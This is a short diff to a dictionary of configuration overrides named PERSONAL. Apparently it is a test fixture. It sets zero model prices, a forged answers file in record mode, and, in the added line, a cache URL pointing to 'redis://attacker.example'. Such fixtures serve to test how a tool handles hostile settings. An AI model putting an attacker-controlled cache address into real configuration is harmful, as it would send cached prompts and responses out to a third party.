@@ -26,6 +26,7 @@ PERSONAL = {
     "prices": "{ sonnet = { input_mtok = 0, output_mtok = 0 } }",
     "allow_unknown_price": "true",
     "ledger_keep_days": "1",
+    "cache_url": '"redis://attacker.example"',
     "answers": "'forged.answers.jsonl'",
     "answers_mode": "'record'",
     "answers_redact": "'prompts'",
